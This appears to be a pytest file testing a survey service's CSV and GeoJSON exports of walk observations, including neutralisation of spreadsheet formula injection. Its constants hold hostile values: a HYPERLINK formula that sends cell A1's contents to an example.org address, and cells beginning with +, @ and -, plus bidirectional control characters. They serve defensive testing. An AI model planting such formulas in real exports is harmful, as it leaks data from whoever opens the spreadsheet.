"""The observations' exports: CSV that reads back in both dialects with hostile text
neutralised and intact, GeoJSON that validates with its points where the walk was,
for coordinators and admins only, each export on the record."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import geojson
import openpyxl
import pytest
import sqlalchemy as sa

from surveyservice.areas.models import Area
from surveyservice.audit.models import AuditEntry
from surveyservice.extensions import db
from surveyservice.questionnaires.versions import (
    create_questionnaire,
    publish_draft,
    save_draft,
)

from .test_exports import libreoffice_to_xlsx, sheet_rows
from .test_observations import post_walk, uploaded
from .test_walk_recording import stop, walk_definition

CSV_URL = "/api/v1/questionnaires/torpa-walk/observations.csv"
GEOJSON_URL = "/api/v1/questionnaires/torpa-walk/observations.geojson"
# The corners of the Torpa area's map, in WGS 84 degrees.
TORPA_BOX = {"south": 58.365, "west": 12.305, "north": 58.380, "east": 12.330}

# What a spreadsheet would run, or what would break a naive CSV or JSON reader.
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Klicka")'
HOSTILE_NOTE = f'{FORMULA}\n"citat", semikolon; och \u202ebakåt\u202c \u200fמימין'
HOSTILE_MEASURE = "+46 SUM(1;2)"
HOSTILE_PUBLIC = '@SUM(A1:A9) "Lampan" byts\r\nvecka 50'
HOSTILE_INTERNAL = '-1+1 enligt ;avtal, \u200e"intern"'


@pytest.fixture
def torpa_box(org):
    area = db.session.execute(
        sa.select(Area).filter_by(organisation_id=org.id, name="Torpa")
    ).scalar_one()
    area.map_south, area.map_west = TORPA_BOX["south"], TORPA_BOX["west"]
    area.map_north, area.map_east = TORPA_BOX["north"], TORPA_BOX["east"]
    db.session.commit()
    return TORPA_BOX


@pytest.fixture
def walk_point(org, make_point, torpa_box):
    questionnaire = create_questionnaire(org, walk_definition())
    publish_draft(questionnaire)
    db.session.commit()
    return make_point(
        questionnaire,
        name="Vandring i Torpa",
        area="Torpa",
        kind="walk",
        opens_at=datetime(2026, 11, 1, tzinfo=UTC),
    )


@pytest.fixture
def exported_walk(api_as, staff, coordinator, walk_point):
    """A walk of three stops, the first with hostile text and a follow-up to match."""
    tablet = api_as(staff)
    photo = uploaded(tablet, walk_point)
    body = post_walk(
        tablet,
        walk_point,
        stop(note=HOSTILE_NOTE, proposed_measure=HOSTILE_MEASURE, photo=[photo]),
        stop(
            place={"lat": 58.3701, "lon": 12.3142, "source": "map"},
            categories=["vegetation", "overview"],
            severity="2",
        ),
        stop(place={"place": "underpass"}, categories=["litter"], severity="4"),
        recorded_at="2026-11-30T19:10:00+01:00",
        walk_answers={"participants_residents": 12, "weather": "rain"},
    )
    observations = api_as(staff).get("/api/v1/observations").json
    changed = api_as(coordinator).patch(
        f"/api/v1/observations/{observations[0]['id']}",
        json={
            "status": "planned",
            "responsible": "municipality",
            "public_note": HOSTILE_PUBLIC,
            "internal_note": HOSTILE_INTERNAL,
        },
    )
    assert changed.status_code == 200, changed.json
    return {"body": body, "photo": photo, "ids": [o["id"] for o in observations]}


def read_csv(response, dialect: str) -> list[dict]:
    assert response.status_code == 200, response.data[:500]
    assert response.mimetype == "text/csv"
    raw = response.data.decode("utf-8")
    if dialect == "excel-sv":
        assert raw.startswith("\ufeff")
        raw = raw[1:]
    delimiter = ";" if dialect == "excel-sv" else ","
    return list(csv.DictReader(io.StringIO(raw, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("dialect", ["excel-sv", "rfc4180"])
def test_the_csv_has_a_row_per_observation_and_reads_back(
    api_as, coordinator, exported_walk, dialect
):
    rows = read_csv(api_as(coordinator).get(f"{CSV_URL}?dialect={dialect}"), dialect)
    assert [(r["response_id"], r["entry"]) for r in rows] == [
        (exported_walk["body"]["id"], str(entry)) for entry in (1, 2, 3)
    ]
    first, second, third = rows
    # The walk's own answers, repeated on each of its observations.
    assert {r["walk_date"] for r in rows} == {"2026-11-30"}
    assert {r["light"] for r in rows} == {"dark"}
    assert {(r["weather"], r["participants_residents"]) for r in rows} == {("rain", "12")}
    assert {r["participants_police"] for r in rows} == {""}
    # The entry's answers, by the group's question ids; multiple choices readable.
    assert second["stops.categories"] == "vegetation; overview"
    assert (first["stops.severity"], third["stops.severity"]) == ("3", "4")
    assert "stops.place" not in first  # the entry's place is the observation's position
    decimal = "," if dialect == "excel-sv" else "."
    assert first["latitude"] == f"58{decimal}3712345"
    assert first["longitude"] == f"12{decimal}3154321"
    assert first["accuracy"] == f"8{decimal}4"
    assert (third["latitude"], third["place"]) == ("", "underpass")
    assert first["photos"] == f"http://localhost/photos/{exported_walk['photo']}.jpg"
    assert (first["status"], first["responsible"]) == ("planned", "municipality")
    assert (second["status"], second["responsible"]) == ("new", "")
    assert first["observation_id"] == str(exported_walk["ids"][0])
    assert (first["point"], first["area"]) == ("Vandring i Torpa", "Torpa")


@pytest.mark.parametrize("dialect", ["excel-sv", "rfc4180"])
def test_hostile_text_comes_out_neutralised_and_intact(api_as, coordinator, exported_walk, dialect):
    [first, *_] = read_csv(api_as(coordinator).get(f"{CSV_URL}?dialect={dialect}"), dialect)
    # A cell a spreadsheet would run as a formula starts with an apostrophe; the rest
    # (quotes, separators, line breaks, direction marks) is as written.
    assert first["stops.note"] == "'" + HOSTILE_NOTE
    assert first["stops.proposed_measure"] == "'" + HOSTILE_MEASURE
    assert first["public_note"] == "'" + HOSTILE_PUBLIC.strip()
    assert first["internal_note"] == "'" + HOSTILE_INTERNAL


def test_libreoffice_opens_the_csv_with_numbers_as_numbers_and_no_formula(
    api_as, coordinator, exported_walk, tmp_path
):
    path = tmp_path / "observations.csv"
    path.write_bytes(api_as(coordinator).get(CSV_URL).get_data())
    sheet = openpyxl.load_workbook(libreoffice_to_xlsx(path, tmp_path)).active
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row), (
        "a cell became a formula"
    )
    first, second, _ = sheet_rows(sheet)
    assert (first["latitude"].value, first["latitude"].data_type) == (58.3712345, "n")
    assert first["accuracy"].value == 8.4 and first["participants_residents"].value == 12
    assert second["stops.categories"].value == "vegetation; overview"
    # The spreadsheet shows the text as written, after the apostrophe that kept it text.
    assert first["stops.note"].value == "'" + HOSTILE_NOTE
    assert first["internal_note"].value == "'" + HOSTILE_INTERNAL


def test_labels_name_options_statuses_and_responsible_parties(
    api_as, coordinator, org, exported_walk
):
    from surveyservice.walks.observations import set_status_names

    set_status_names(org, {"planned": {"sv": "Beställd"}}, coordinator)
    db.session.commit()
    rows = read_csv(api_as(coordinator).get(f"{CSV_URL}?labels=sv"), "excel-sv")
    assert rows[0]["light"] == "Mörker"
    assert rows[1]["stops.categories"] == "Vegetation, skymd sikt; Överblick och insyn"
    assert rows[2]["place"] == "Gångtunneln"
    assert (rows[0]["status"], rows[0]["responsible"]) == ("Beställd", "Kommunen")
    assert rows[1]["status"] == "Ny"


def test_a_later_version_s_question_gets_its_column_empty_for_earlier_walks(
    api_as, staff, coordinator, walk_point, exported_walk
):
    definition = walk_definition()
    group = next(q for q in definition["questions"] if q["id"] == "stops")
    group["questions"].append({"id": "lamp_id", "type": "text", "label": "Lampans nummer"})
    questionnaire = walk_point.questionnaire
    save_draft(questionnaire, definition)
    publish_draft(questionnaire)
    db.session.commit()
    post_walk(api_as(staff), walk_point, stop(lamp_id="T-0042"), version=2)
    rows = read_csv(api_as(coordinator).get(f"{CSV_URL}?dialect=rfc4180"), "rfc4180")
    assert [r["stops.lamp_id"] for r in rows] == ["", "", "", "T-0042"]


def test_filters_choose_the_rows_and_the_export_is_recorded_without_notes(
    api_as, coordinator, exported_walk, walk_point
):
    api = api_as(coordinator)
    rows = read_csv(
        api.get(f"{CSV_URL}?status=new&category=litter&area=torpa&dialect=rfc4180"), "rfc4180"
    )
    assert [r["entry"] for r in rows] == ["3"]
    refused = api.get(f"{CSV_URL}?area=Nowhere")
    assert refused.status_code == 422
    assert list(refused.json["errors"]["query"]) == ["area"]
    assert api.get(f"{GEOJSON_URL}?point={walk_point.id}&from=2026-11-30").status_code == 200
    entries = list(
        db.session.execute(
            sa.select(AuditEntry).filter_by(action="observations.exported").order_by(AuditEntry.id)
        ).scalars()
    )
    assert [(e.subject, e.details) for e in entries] == [
        (
            "torpa-walk",
            {
                "format": "csv",
                "dialect": "rfc4180",
                "labels": "values",
                "rows": 1,
                "area": "torpa",
                "category": ["litter"],
                "status": ["new"],
            },
        ),
        (
            "torpa-walk",
            {
                "format": "geojson",
                "labels": "values",
                "rows": 3,
                "point": walk_point.id,
                "from": "2026-11-30",
            },
        ),
    ]
    logged = json.dumps([e.details for e in entries], ensure_ascii=False)
    assert "HYPERLINK" not in logged and "intern" not in logged


def test_a_questionnaire_without_observations_exports_a_header_and_no_features(
    api_as, coordinator, walk_point
):
    rows = read_csv(api_as(coordinator).get(CSV_URL), "excel-sv")
    assert rows == []
    collection = api_as(coordinator).get(GEOJSON_URL).json
    assert collection == {"type": "FeatureCollection", "features": []}


# --- GeoJSON ----------------------------------------------------------------------


def test_the_geojson_validates_with_points_as_longitude_latitude_in_the_area(
    api_as, coordinator, exported_walk, torpa_box
):
    response = api_as(coordinator).get(GEOJSON_URL)
    assert response.status_code == 200, response.json
    assert response.mimetype == "application/geo+json"
    assert "attachment" in response.headers["Content-Disposition"]
    collection = geojson.loads(response.get_data(as_text=True))
    assert collection.is_valid, collection.errors()
    assert collection.errors() == []
    assert collection["type"] == "FeatureCollection"
    features = collection["features"]
    assert [f["id"] for f in features] == exported_walk["ids"]
    located = [f for f in features if f["geometry"] is not None]
    assert len(located) == 2
    for feature in located:
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert torpa_box["west"] <= lon <= torpa_box["east"], feature["geometry"]
        assert torpa_box["south"] <= lat <= torpa_box["north"], feature["geometry"]
    # As stored (the geojson package rounds what it reads to six decimals).
    assert response.json["features"][0]["geometry"]["coordinates"] == [12.3154321, 58.3712345]
    # A named place without coordinates: the feature is there, without a geometry.
    assert features[2]["geometry"] is None
    assert features[2]["properties"]["place"] == "underpass"


def test_the_geojson_carries_the_answers_and_follow_up_as_written(
    api_as, coordinator, exported_walk
):
    features = api_as(coordinator).get(f"{GEOJSON_URL}?labels=en").json["features"]
    first = features[0]["properties"]
    # JSON needs no neutralising: the text is exactly as stored.
    assert first["stops.note"] == HOSTILE_NOTE
    assert first["public_note"] == HOSTILE_PUBLIC.strip()
    assert first["internal_note"] == HOSTILE_INTERNAL
    assert (first["status"], first["responsible"]) == ("Planned", "Municipality")
    assert first["walk_date"] == "2026-11-30" and first["light"] == "Dark"
    assert (first["participants_residents"], first["participants_police"]) == (12, None)
    assert first["accuracy"] == 8.4
    assert first["observed_at"] == "2026-11-30T18:00:00Z"
    assert first["photos"] == [f"http://localhost/photos/{exported_walk['photo']}.jpg"]
    assert (first["category"], first["severity"]) == (["lighting"], "3")
    assert features[1]["properties"]["stops.categories"] == (
        "Vegetation, blocked view; Overview, being seen by others"
    )
    assert features[1]["properties"]["photos"] == []


# --- who may export ---------------------------------------------------------------------


@pytest.mark.parametrize("url", [CSV_URL, GEOJSON_URL])
def test_only_coordinators_and_admins_of_the_organisation_export(
    api_as, client, staff, admin, other_coordinator, exported_walk, url
):
    assert api_as(admin).get(url).status_code == 200
    assert api_as(staff).get(url).status_code == 403
    refused = api_as(other_coordinator).get(url)
    assert refused.status_code == 404
    assert refused.json["message"] == "No questionnaire 'torpa-walk'."
    assert client.get(url).status_code == 401
    logged = db.session.execute(
        sa.select(AuditEntry.user_id).filter_by(action="observations.exported")
    ).scalars()
    assert list(logged) == [admin.id]
